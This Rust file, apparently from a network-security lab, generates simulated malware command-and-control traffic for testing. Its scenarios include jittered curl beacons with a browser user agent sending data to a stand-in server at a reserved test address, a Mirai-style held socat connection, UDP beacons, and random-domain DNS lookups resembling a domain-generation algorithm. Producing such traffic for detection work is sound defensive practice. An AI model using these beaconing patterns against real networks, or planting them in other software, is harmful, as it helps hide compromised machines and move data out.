//! Infected devices that report to whoever commands them: small messages at intervals that vary a little.

use std::thread::sleep;
use std::time::Duration;

use anyhow::Result;
use lab::attacks::run_tool;
use lab::network::{INTERNET, INTERNET_V6, NAME_SERVER};
use lab::process::run_any;
use lab::talk::{Answering, Pace, Party, Visit, ask_many, sockets_from, visit_many};

use crate::scenario::{INSIDE, INSIDE_V6, Scenario};
use crate::stage::Scene;

/// How long one message may take.
const LIMIT: Duration = Duration::from_secs(20);

/// The server that commands.
const COMMAND: &str = INTERNET[3];

/// How a device reports: how often, at which interval, and how much that varies.
#[derive(Clone, Copy)]
struct Beat {
    times: u32,
    interval_ms: u64,
    jitter: f64,
}

/// All of them.
pub fn scenarios() -> Vec<Scenario> {
    let beacon = |name: &str, victim: &str, act: fn(&Scene) -> Result<()>| {
        let attacker = if victim == INTERNET_V6 { INSIDE_V6 } else { INSIDE };
        Scenario::attack("malware_c2", "beacon", name, attacker, victim, act)
    };
    vec![
        beacon("beacon_tls_10_s", COMMAND, |s| {
            report(s, "https://203.0.113.13", Beat { times: 12, interval_ms: 10_000, jitter: 0.1 })
        }),
        beacon("beacon_tls_3_s", COMMAND, |s| {
            report(s, "https://203.0.113.13", Beat { times: 20, interval_ms: 3_000, jitter: 0.3 })
        }),
        beacon("beacon_tls_1_s", COMMAND, |s| {
            report(s, "https://203.0.113.13", Beat { times: 40, interval_ms: 1_000, jitter: 0.2 })
        }),
        beacon("beacon_http_5_s", COMMAND, |s| {
            report(s, "http://203.0.113.13", Beat { times: 14, interval_ms: 5_000, jitter: 0.1 })
        }),
        beacon("beacon_http_2_s", COMMAND, |s| {
            report(s, "http://203.0.113.13", Beat { times: 30, interval_ms: 2_000, jitter: 0.4 })
        }),
        beacon("beacon_http_v6", INTERNET_V6, |s| {
            report(s, "http://[2001:db8:10::10]", Beat { times: 25, interval_ms: 2_000, jitter: 0.2 })
        }),
        beacon("beacon_held_connection", COMMAND, held),
        beacon("beacon_udp", COMMAND, |s| {
            let mut random = s.random();
            let server = sockets_from(COMMAND, 1, 4444)?;
            let _answering = Answering::start(s.wan(), &server, (20, 60), random.bits())?;
            let asker = Party { namespace: s.lan(), socket: format!("{INSIDE}:0").parse()? };
            let pace = Pace { interval: Duration::from_secs(2), bytes: (30, 48) };
            ask_many(asker, &server, 20, pace, &mut random).map(|_| ())
        }),
        beacon("beacon_dead_server", "203.0.113.210", |s| {
            (0..8).try_for_each(|_| {
                let line = "curl -s -m 3 --connect-timeout 3 -o /dev/null https://203.0.113.210/";
                sleep(Duration::from_secs(2));
                run_any(&mut s.lan().words(line), LIMIT).map(|_| ())
            })
        }),
        beacon("beacon_by_drawn_names", NAME_SERVER, drawn_names),
    ]
}

fn report(scene: &Scene, server: &str, beat: Beat) -> Result<()> {
    let mut random = scene.random();
    for _ in 0..beat.times {
        let pause = beat.interval_ms as f64 * (1.0 + beat.jitter * (2.0 * random.share() - 1.0));
        sleep(Duration::from_millis(pause as u64));
        let length = random.between(60, 300) as usize;
        let line = format!(
            "curl -k -s -m 15 -o /dev/null -A Mozilla/5.0 --data {} {server}/icon.svg?id={}",
            random.letters(length),
            random.letters(8)
        );
        run_tool(scene.lan(), &line, LIMIT)?;
    }
    Ok(())
}

/// A connection that stays, over which a few bytes go every two seconds, as Mirai does.
fn held(scene: &Scene) -> Result<()> {
    let line = format!("socat TCP4-LISTEN:4455,bind={COMMAND},fork,reuseaddr EXEC:cat");
    let _server = scene.wan().start(&line)?;
    sleep(Duration::from_millis(300));
    let visit = Visit {
        parallel: 1,
        patience: Duration::from_secs(3),
        says_bytes: 2,
        times: 22,
        pause: Duration::from_secs(2),
        spacing: Duration::ZERO,
    };
    visit_many(scene.lan(), &sockets_from(COMMAND, 1, 4455)?, visit, &mut scene.random()).map(|_| ())
}

/// It looks for its server under names drawn by the day, of which nearly none exist.
fn drawn_names(scene: &Scene) -> Result<()> {
    let mut random = scene.random();
    for _ in 0..12 {
        let names: Vec<String> = (0..10).map(|_| format!("{}.example.org", random.letters(16))).collect();
        let line = format!("dig -b {INSIDE} +tries=1 +timeout=1 +short @{NAME_SERVER} {}", names.join(" "));
        run_any(&mut scene.lan().words(&line), LIMIT)?;
        sleep(Duration::from_millis(random.between(1_000, 4_000)));
    }
    Ok(())
}
